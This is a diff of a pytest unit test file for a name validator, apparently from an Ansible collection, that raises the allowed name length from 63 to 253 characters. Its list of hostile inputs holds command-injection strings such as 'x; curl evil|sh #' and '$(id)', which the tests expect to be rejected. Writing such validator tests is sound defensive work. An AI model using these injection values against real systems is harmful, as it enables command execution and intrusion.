@@ -25,13 +25,13 @@ from ansible_collections.killinit.zot.tests.unit.workload_objects import CLUSTER
 HOSTILE = ["x; curl evil|sh #", "$(id)", "a b", "a\nb", "a\n", "\x1b[2J", "a/b", "--all", "-a", "a'b", 'a"b', "é", ""]
 
 
-@pytest.mark.parametrize("text", ["a", "a-1", "a.b", "0", "a" * 63, ".".join(["a" * 60] * 4)])
+@pytest.mark.parametrize("text", ["a", "a-1", "a.b", "0", "a" * 253, ".".join(["a" * 60] * 4)])
 def test_names(text: str) -> None:
     assert is_name(text)
     assert object_name(text) == text
 
 
-@pytest.mark.parametrize("text", [*HOSTILE, "A", "a_b", "a-", "a..b", ".a", "a.", "a" * 64, ".".join(["a" * 60] * 5)])
+@pytest.mark.parametrize("text", [*HOSTILE, "A", "a_b", "a-", "a..b", ".a", "a.", "a" * 254, ".".join(["a" * 60] * 5)])
 def test_no_names(text: str) -> None:
     assert not is_name(text)
     with pytest.raises(InvalidNameError):
